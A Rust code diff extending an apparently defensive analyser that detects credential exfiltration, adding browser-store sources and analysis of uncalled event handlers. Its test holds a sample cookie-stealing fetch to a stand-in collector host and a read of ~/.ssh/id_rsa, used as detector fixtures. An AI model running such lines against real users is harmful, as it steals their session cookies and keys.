@@ -31,6 +31,8 @@ const MAX_TEXT: usize = 1024;
 const MAX_ITEMS: usize = 32;
 /// How many secrets one value carries.
 const MAX_SECRETS: usize = 4;
+/// How many of a file's functions are remembered to be run when nothing calls them.
+const MAX_DEFINED: usize = 256;
 /// How deep helper calls are followed.
 const MAX_CALL_DEPTH: usize = 3;
 /// How deep the lowerers nest expressions before giving up on the rest (stack safety).
@@ -147,6 +149,25 @@ struct Secret {
     /// The path or the variable name.
     what: String,
     at: usize,
+}
+
+/// A name the runtime provides (a builtin, a module member): a source when it is one of the
+/// browser's stores (`document.cookie`, `localStorage`), which a script in a shipped SVG or page
+/// can read.
+fn runtime_global(name: String) -> Value {
+    let mut value = Value::named(name);
+    if let Some(name) = value.name.as_deref()
+        && knowledge::BROWSER_STORES.contains(&name)
+    {
+        let what = name.to_owned();
+        value.carry(&[Secret {
+            kind: SecretKind::File,
+            what,
+            // A global has no place in the file; the flow is reported at its sink.
+            at: usize::MAX,
+        }]);
+    }
+    value
 }
 
 /// An abstract value.
@@ -571,8 +592,23 @@ pub(crate) fn run(lang: Lang, body: &[Stmt], sink: &mut Sink) -> u32 {
         returns: Vec::new(),
         weak: 0,
         steps: 0,
+        flows_only: false,
+        defined: Vec::new(),
+        followed: std::collections::HashSet::new(),
     };
     interp.block(body);
+    // A function nobody in the file calls still runs: as an event handler (`onload="init()"`),
+    // a callback of a library, an entry point of another file. Its parameters are unknown, so
+    // only its flows are reported: what it merely reads depends on arguments it never got
+    // here (a Skill's helper picking its own entry out of the agent's config, for one).
+    interp.flows_only = true;
+    let mut next = 0;
+    while let Some(function) = interp.defined.get(next).cloned() {
+        next += 1;
+        if !interp.followed.contains(&Rc::as_ptr(&function)) {
+            interp.follow(function, &[]);
+        }
+    }
     interp.steps
 }
 
@@ -583,6 +619,12 @@ struct Interp<'s, 'a> {
     scopes: Vec<HashMap<String, Value>>,
     /// Functions being followed (no recursion).
     calls: Vec<*const Function>,
+    /// Report flows only, not the reads they start from (see [`run`]).
+    flows_only: bool,
+    /// The functions the file defines, in order (at most [`MAX_DEFINED`]).
+    defined: Vec<Rc<Function>>,
+    /// The functions a call has followed.
+    followed: std::collections::HashSet<*const Function>,
     /// Values returned by the helper being followed.
     returns: Vec<Value>,
     /// Inside a branch or loop, assignments add to the old value instead of replacing it.
@@ -661,6 +703,12 @@ impl Interp<'_, '_> {
                 self.weak -= 1;
             }
             Stmt::Def(function) => {
+                let id = Rc::as_ptr(function);
+                if self.defined.len() < MAX_DEFINED
+                    && !self.defined.iter().any(|f| Rc::as_ptr(f) == id)
+                {
+                    self.defined.push(function.clone());
+                }
                 let value = Value {
                     function: Some(function.clone()),
                     ..Value::default()
@@ -688,7 +736,7 @@ impl Interp<'_, '_> {
             Expr::Var(name) => match self.lookup(name) {
                 Some(value) => value.clone(),
                 // A builtin or a global of the runtime: its name.
-                None => Value::named(name.clone()),
+                None => runtime_global(name.clone()),
             },
             Expr::Attr(object, attribute) => {
                 let object = self.eval(object);
@@ -798,7 +846,9 @@ impl Interp<'_, '_> {
                     ..Value::default()
                 };
             }
-            return Value::named(qualified);
+            let mut member = runtime_global(qualified);
+            member.carry(&object.secrets);
+            return member;
         }
         Value::unknown_carrying(object.all_secrets())
     }
@@ -980,7 +1030,9 @@ impl Interp<'_, '_> {
                 for text in texts {
                     let shown = text.replace([HOLE, SECRET_HOLE], "*").replace('\\', "/");
                     if knowledge::sensitive_path(&shown).is_some() && !shown.ends_with(".pub") {
-                        text::report_read(&shown, at, self.sink);
+                        if !self.flows_only {
+                            text::report_read(&shown, at, self.sink);
+                        }
                         out.carry(&[Secret {
                             kind: SecretKind::File,
                             what: shown,
@@ -1081,6 +1133,7 @@ impl Interp<'_, '_> {
             scope.insert(param.clone(), value);
         }
         self.calls.push(id);
+        self.followed.insert(id);
         self.scopes.push(scope);
         self.returns.push(Value::default());
         let weak = std::mem::replace(&mut self.weak, 0);
@@ -1330,6 +1383,47 @@ mod tests {
         let (rules, _) = rules_of(Lang::Python, &python);
         assert!(rules.contains(&rules::CRED_SENSITIVE_PATH), "{rules:?}");
         assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+    }
+
+    #[test]
+    fn a_function_nobody_calls_is_run_for_its_flows_not_its_reads() {
+        // function init() { fetch("https://collect.example.net/c", {body: document.cookie}) }
+        // — called from an SVG's onload= attribute, never from the script itself.
+        let handler = Rc::new(Function {
+            name: "init".into(),
+            params: vec![],
+            body: vec![Stmt::Eval(call(
+                "fetch",
+                vec![
+                    Expr::Str("https://collect.example.net/c".into()),
+                    Expr::Attr(Box::new(Expr::Var("document".into())), "cookie".into()),
+                ],
+            ))],
+        });
+        let (rules, _) = rules_of(Lang::JavaScript, &[Stmt::Def(handler)]);
+        assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+
+        // def load(): return open("~/.ssh/id_rsa").read() — a read that goes nowhere here.
+        let reader = || {
+            Rc::new(Function {
+                name: "load".into(),
+                params: vec![],
+                body: vec![Stmt::Return(call(
+                    "open",
+                    vec![Expr::Str("~/.ssh/id_rsa".into())],
+                ))],
+            })
+        };
+        let (uncalled, _) = rules_of(Lang::Python, &[Stmt::Def(reader())]);
+        assert!(
+            !uncalled.contains(&rules::CRED_SENSITIVE_PATH),
+            "{uncalled:?}"
+        );
+        let (called, _) = rules_of(
+            Lang::Python,
+            &[Stmt::Def(reader()), Stmt::Eval(call("load", vec![]))],
+        );
+        assert!(called.contains(&rules::CRED_SENSITIVE_PATH), "{called:?}");
     }
 
     #[test]
